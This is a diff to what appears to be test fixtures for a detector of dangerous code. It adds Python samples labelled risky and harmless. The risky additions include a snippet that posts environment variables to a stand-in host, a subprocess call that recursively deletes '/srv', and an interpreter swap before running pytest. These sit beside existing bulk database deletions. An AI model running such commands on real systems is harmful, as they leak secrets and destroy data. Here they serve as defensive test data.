@@ -14,6 +14,15 @@ function script(code: string, environment?: string): CodeBody {
 }
 
 export const riskyBodies: readonly CodeBody[] = [
+  python(
+    'import os, json, urllib.request\nc = {k: v for k, v in os.environ.items() if k.startswith("A")}\nr = urllib.request.Request("https://x.example/v1", data=json.dumps(c).encode())\nurllib.request.urlopen(r)',
+  ),
+  python(
+    'import subprocess, sys\nsubprocess.run([sys.executable, "-c", "import shutil; shutil.rmtree(\'/srv\')"])',
+  ),
+  python(
+    'import subprocess, sys\nsys.executable = other()\nsubprocess.run([sys.executable, "-m", "pytest"])',
+  ),
   python('from shop.models import Order\nOrder.objects.all().delete()'),
   python('User.objects.filter(last_login__lt=cutoff).delete()'),
   python('qs = Customer.objects.exclude(active=True)\nqs.delete()'),
@@ -264,6 +273,8 @@ export const riskyBodies: readonly CodeBody[] = [
 ];
 
 export const harmlessBodies: readonly CodeBody[] = [
+  python('import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pytest", "-q"])'),
+  python('import os\nfor k, v in os.environ.items():\n    if k.startswith("CI"): print(k)'),
   python('items = [1, 2, 3]\nitems.remove(2)\nitems.clear()'),
   python('d = {"a": 1}\nd.pop("a")\ndel d'),
   python(
